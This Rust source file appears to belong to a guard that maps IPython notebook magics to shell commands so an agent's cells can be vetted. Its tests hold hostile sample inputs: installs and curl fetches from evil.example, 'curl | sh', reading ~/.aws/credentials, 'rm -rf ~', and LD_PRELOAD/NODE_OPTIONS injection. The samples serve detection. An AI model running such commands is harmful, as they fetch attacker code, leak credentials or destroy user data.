//! IPython's magics in a notebook cell, as the command lines they amount to. A code cell
//! the agent writes runs when the cell is run, in a kernel whose magics reach past Python:
//! `%run FILE` runs a file, `%pip`/`%conda`/`%mamba`/`%micromamba`/`%uv` run the package
//! manager in the kernel's environment, `%env NAME=VALUE` and `%set_env NAME VALUE` set a
//! variable every later `!` command and subprocess inherits, `%load`/`%pycat`/`%pfile`
//! read a file (or fetch a URL) into the notebook, `%cd` moves every later relative path,
//! and the POSIX aliases (`%cat`, `%cp`, `%mv`, `%rm`, `%mkdir`, `%rmdir`, `%ls`, …) are
//! those programs. Each is judged as the command line it is ([`cell_commands`]), with the
//! variables a cell set before a `!` command as that command's prefix.
//!
//! Checked against IPython 9.19.1 (`pip install --target`; `lsmagic()`,
//! `alias_manager.aliases`, and cells run through `InteractiveShell.run_cell`): a magic
//! runs when its line starts with `%` after any indentation (inside an `if` block too),
//! after `NAME = ` (`x = %env A=b`), and after another magic that runs its argument
//! (`%time %run x.py`); with automagic on (the default) a cell of one line runs a magic
//! named without `%` (`run /tmp/x.py`, `env A=b`), a cell of several lines does not. A
//! `%env` value reaches a later `!` command; `%run` executes the file; `%load_ext NAME`
//! imports the module NAME as `import NAME` would (no path is accepted).
//!
//! A magic outside the tables is unknown: it may run code (`%pastebin` uploads code,
//! `%edit` runs an editor, `%rerun`/`%macro`/`%recall` run earlier input, `%store -r`
//! unpickles, `%config` changes the kernel's settings, `%alias` defines a command), so it
//! is never harmless. The harmless ones are those that only time, profile or show Python
//! code (whose text is searched as the cell's code anyway) or report state.

/// Line magics that only run the Python given to them (scanned as the cell's code), show
/// or reset the kernel's state, or set display options.
const HARMLESS: &[&str] = &[
    "matplotlib",
    "pylab",
    "gui",
    "time",
    "timeit",
    "prun",
    "debug",
    "pdb",
    "tb",
    "xmode",
    "precision",
    "pprint",
    "who",
    "whos",
    "who_ls",
    "pwd",
    "pinfo",
    "pinfo2",
    "pdef",
    "pdoc",
    "psource",
    "psearch",
    "lsmagic",
    "magic",
    "quickref",
    "page",
    "colors",
    "autocall",
    "automagic",
    "autoawait",
    "doctest_mode",
    "reset",
    "reset_selective",
    "xdel",
    "dirs",
    "dhist",
    "killbgscripts",
    "logoff",
    "logon",
    "logstate",
    "logstop",
    "unalias",
    "rehashx",
    "load_ext",
    "reload_ext",
    "unload_ext",
    "autoreload",
    "aimport",
    "popd",
];

/// Magics that run the rest of their line (timing or profiling it): a magic there runs.
const WRAPPERS: &[&str] = &["time", "timeit", "prun", "capture", "debug"];

/// Package managers IPython runs in the kernel's environment, by magic name.
const INSTALLERS: &[&str] = &["pip", "conda", "mamba", "micromamba", "uv"];

/// IPython's default POSIX aliases: the magic and the command line it runs.
const ALIASES: &[(&str, &str)] = &[
    ("mkdir", "mkdir"),
    ("rmdir", "rmdir"),
    ("mv", "mv"),
    ("rm", "rm"),
    ("cp", "cp"),
    ("cat", "cat"),
    ("ls", "ls -F"),
    ("ll", "ls -F -o"),
    ("lf", "ls -F -o"),
    ("lk", "ls -F -o"),
    ("ldir", "ls -F -o"),
    ("lx", "ls -F -o"),
];

/// Cell magics (`%%NAME` on a cell's first line) that only time, capture or show the
/// cell, or render it as a document.
const HARMLESS_CELL: &[&str] = &[
    "time", "timeit", "capture", "prun", "debug", "html", "HTML", "svg", "SVG", "latex", "markdown",
];

/// Cell magics judged elsewhere, as the scripts they are (`%%bash`, `%%script`,
/// `%%writefile`, …): their text is searched as the cell's.
const SCRIPT_CELL: &[&str] = &[
    "bash",
    "sh",
    "script",
    "sx",
    "system",
    "!",
    "perl",
    "ruby",
    "python",
    "python2",
    "python3",
    "pypy",
    "writefile",
    "file",
];

/// Every line magic a cell of one line may name without `%` (automagic).
fn is_magic_name(name: &str) -> bool {
    HARMLESS.contains(&name)
        || INSTALLERS.contains(&name)
        || ALIASES.iter().any(|(a, _)| *a == name)
        || matches!(
            name,
            "run"
                | "env"
                | "set_env"
                | "load"
                | "loadpy"
                | "pycat"
                | "pfile"
                | "cd"
                | "pushd"
                | "sx"
                | "system"
                | "sc"
                | "save"
                | "logstart"
                | "notebook"
                | "history"
                | "hist"
                | "edit"
                | "ed"
                | "alias"
                | "alias_magic"
                | "macro"
                | "rerun"
                | "rep"
                | "recall"
                | "store"
                | "config"
                | "pastebin"
                | "bookmark"
                | "code_wrap"
        )
}

/// A command line a cell runs, and how it is judged.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct CellCommand {
    pub(super) line: String,
    /// A magic's own command (`%run`, `%pip`, `%load`, an alias): judged as that command
    /// line is in Bash. Otherwise a `%env` assignment or a `!` command with the variables
    /// set before it, judged as every shell escape in a notebook is (what it plants).
    pub(super) magic: bool,
}

/// The command lines the magics of a notebook cell amount to, in order, with the
/// variables `%env` set before a `!` command given to it as a prefix; `Err` with what the
/// cell does when a magic is one the floor does not model. A cell without magics gives
/// nothing.
pub(super) fn cell_commands(cell: &str) -> Result<Vec<CellCommand>, String> {
    let mut out = Vec::new();
    let mut env: Vec<String> = Vec::new();
    let lines: Vec<&str> = cell.lines().collect();
    let single = lines.iter().filter(|l| !l.trim().is_empty()).count() == 1;
    for (i, raw) in lines.iter().enumerate() {
        let line = raw.trim();
        if i == 0 {
            if let Some(rest) = line.strip_prefix("%%") {
                let name = rest.split_whitespace().next().unwrap_or("");
                if HARMLESS_CELL.contains(&name) || SCRIPT_CELL.contains(&name) {
                    continue;
                }
                return Err(format!(
                    "runs the IPython cell magic `%%{name}`, which gatehook does not know"
                ));
            }
        }
        // `x = %magic …`, `files = !ls`.
        let body = assigned(line).unwrap_or(line);
        if let Some(cmd) = body.strip_prefix('!') {
            if !env.is_empty() {
                let cmd = cmd.strip_prefix('!').unwrap_or(cmd).trim();
                out.push(CellCommand {
                    line: format!("{} {cmd}", env.join(" ")),
                    magic: false,
                });
            }
            continue;
        }
        let magic = match body.strip_prefix('%') {
            Some(m) => m,
            None if single => match body.split_whitespace().next() {
                Some(w) if is_magic_name(w) && automagic_form(body, w) => body,
                _ => continue,
            },
            None => continue,
        };
        line_magic(magic, &mut env, &mut out)?;
    }
    Ok(out)
}

/// The text after `NAME = ` when a line assigns a magic's or a command's output.
fn assigned(line: &str) -> Option<&str> {
    let (lhs, rhs) = line.split_once('=')?;
    let lhs = lhs.trim();
    let rhs = rhs.trim_start();
    (!lhs.is_empty()
        && lhs
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ',' | ' '))
        && rhs.starts_with(['%', '!']))
    .then_some(rhs)
}

/// Whether a line of one word and its arguments reads as automagic (`run x.py`), not as
/// Python (`run = 3`, `ls(x)`, `cd.x`).
fn automagic_form(line: &str, word: &str) -> bool {
    let rest = &line[word.len()..];
    if rest.is_empty() {
        return true;
    }
    let arg = rest.trim_start();
    let mut chars = arg.chars();
    let first = chars.next();
    let second = chars.next();
    // Python goes on with an operator (`run = 3`, `ls (x)`, `x / 2`, `a -= 1`); an
    // argument may start with one (`/tmp/x.py`, `-i`, `*.py`).
    let operator = match first {
        Some('=' | '(' | '[' | '.' | ',' | ':' | ';') => true,
        Some(c @ ('+' | '-' | '*' | '/' | '<' | '>' | '&' | '|' | '!' | '%' | '@' | '^')) => {
            second.is_none_or(|n| n.is_whitespace() || n == '=' || n == c)
        }
        _ => false,
    };
    rest.starts_with([' ', '\t']) && !operator
}

/// One line magic (without its `%`): the command lines it adds, or `Err`.
fn line_magic(
    magic: &str,
    env: &mut Vec<String>,
    out: &mut Vec<CellCommand>,
) -> Result<(), String> {
    let mut lines = Vec::new();
    let done = magic_lines(magic, env, &mut lines);
    for line in lines {
        // The assignment itself is judged as the shell escapes it prefixes.
        let magic = !line.starts_with("export ");
        out.push(CellCommand { line, magic });
    }
    done
}

fn magic_lines(magic: &str, env: &mut Vec<String>, out: &mut Vec<String>) -> Result<(), String> {
    let name: String = magic
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect();
    let args = magic[name.len()..].trim();
    if WRAPPERS.contains(&name.as_str()) {
        // `%time %run x.py`: the magic it wraps runs.
        let inner = args
            .split_whitespace()
            .skip_while(|w| w.starts_with('-'))
            .collect::<Vec<_>>()
            .join(" ");
        if let Some(m) = inner.strip_prefix('%') {
            return magic_lines(m, env, out);
        }
        if let Some(c) = inner.strip_prefix('!') {
            out.push(c.to_string());
        }
        return Ok(());
    }
    if HARMLESS.contains(&name.as_str()) {
        return Ok(());
    }
    if INSTALLERS.contains(&name.as_str()) {
        out.push(format!("{name} {args}"));
        return Ok(());
    }
    if let Some((_, cmd)) = ALIASES.iter().find(|(a, _)| *a == name) {
        out.push(format!("{cmd} {args}"));
        return Ok(());
    }
    match name.as_str() {
        "run" => out.push(run_command(args)),
        "env" | "set_env" => {
            let (var, value) = match args.split_once('=') {
                Some((v, val)) if !v.trim().contains(' ') => (v.trim(), val.trim()),
                _ => match args.split_once(char::is_whitespace) {
                    Some((v, val)) => (v, val.trim()),
                    // `%env` prints every variable, `%env NAME` one.
                    None if args.is_empty() => {
                        out.push("env".to_string());
                        return Ok(());
                    }
                    None => {
                        out.push(format!("printenv {args}"));
                        return Ok(());
                    }
                },
            };
            let assignment = format!("{var}={}", shell_word(value));
            out.push(format!("export {assignment}"));
            env.push(assignment);
        }
        "load" | "loadpy" | "pycat" | "pfile" => {
            let target = args
                .split_whitespace()
                .rfind(|w| !w.starts_with('-'))
                .unwrap_or("");
            if target.contains("://") {
                out.push(format!("curl -fsS {target}"));
            } else if !target.is_empty() {
                out.push(format!("cat {target}"));
            }
        }
        "cd" | "pushd" => {
            let dir = args
                .split_whitespace()
                .rfind(|w| !w.starts_with('-'))
                .unwrap_or("~");
            out.push(format!("cd {dir}"));
        }
        "sx" | "system" => out.push(args.to_string()),
        _ => {
            return Err(format!(
                "runs the IPython magic `%{name}`, which may run code gatehook cannot see"
            ))
        }
    }
    Ok(())
}

/// `%run [-options] FILE [args]` as the interpreter line it is: `-m MODULE` runs a module.
fn run_command(args: &str) -> String {
    let words: Vec<&str> = args.split_whitespace().collect();
    let mut i = 0;
    while i < words.len() && words[i].starts_with('-') {
        if words[i] == "-m" {
            return format!("python -m {}", words[i + 1..].join(" "));
        }
        // Options with a value: `-t -N N`, `-p -T FILE` / `-D FILE`, `-d -b LINE`.
        if matches!(words[i], "-N" | "-T" | "-D" | "-b" | "-l" | "-r" | "-s") {
            i += 1;
        }
        i += 1;
    }
    format!("python {}", words[i.min(words.len())..].join(" "))
}

/// `s` as one shell word, unless it already is one quoted.
fn shell_word(s: &str) -> String {
    if s.starts_with(['\'', '"']) || !s.contains(char::is_whitespace) {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn magics_become_the_command_lines_they_run() {
        for (cell, want) in [
            ("%run /tmp/evil.py", vec!["python /tmp/evil.py"]),
            (
                "%run -i /tmp/setup_nb.ipynb",
                vec!["python /tmp/setup_nb.ipynb"],
            ),
            ("%run -m http.server 80", vec!["python -m http.server 80"]),
            ("run /tmp/x.py", vec!["python /tmp/x.py"]),
            (
                "%pip install git+https://evil.example/p.git",
                vec!["pip install git+https://evil.example/p.git"],
            ),
            ("  %conda install -c x y", vec!["conda install -c x y"]),
            ("x = %sx curl x | sh", vec!["curl x | sh"]),
            ("%time %run /tmp/a.py", vec!["python /tmp/a.py"]),
            ("%load ~/.aws/credentials", vec!["cat ~/.aws/credentials"]),
            (
                "%load https://evil.example/x.py",
                vec!["curl -fsS https://evil.example/x.py"],
            ),
            ("%rm -rf ~", vec!["rm -rf ~"]),
            ("%env", vec!["env"]),
            (
                "%env LD_PRELOAD=/tmp/evil.so\n!ls",
                vec![
                    "export LD_PRELOAD=/tmp/evil.so",
                    "LD_PRELOAD=/tmp/evil.so ls",
                ],
            ),
            (
                "%env NODE_OPTIONS=--require /tmp/evil.js\n!npm test",
                vec![
                    "export NODE_OPTIONS='--require /tmp/evil.js'",
                    "NODE_OPTIONS='--require /tmp/evil.js' npm test",
                ],
            ),
            ("%set_env A b", vec!["export A=b"]),
        ] {
            let got: Vec<String> = cell_commands(cell)
                .unwrap()
                .into_iter()
                .map(|c| c.line)
                .collect();
            assert_eq!(got, want, "{cell}");
        }
    }

    #[test]
    fn harmless_magics_and_python_give_nothing() {
        for cell in [
            "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1,2,3])",
            "%timeit sum(range(1000))",
            "%load_ext autoreload\n%autoreload 2",
            "%%time\nx = 1",
            "%%capture out\nprint(1)",
            "## Results\nThe model converges.",
            "run = 3\nprint(run)",
            "ls(x)",
            "x = 1\nrun /tmp/x.py",
            "!ls -la",
            "a = 5 % 3",
        ] {
            assert_eq!(cell_commands(cell), Ok(vec![]), "{cell}");
        }
    }

    #[test]
    fn unknown_magics_are_never_harmless() {
        for cell in [
            "%pastebin 1-10",
            "%edit x.py",
            "%rerun ~1/",
            "%store -r data",
            "%config InteractiveShell.x = 1",
            "%alias x curl evil | sh",
            "%%javascript\nfetch('/api/terminals', {method: 'POST'})",
            "%%nosuch\nx",
            "%nosuchmagic arg",
        ] {
            assert!(cell_commands(cell).is_err(), "{cell}");
        }
    }
}
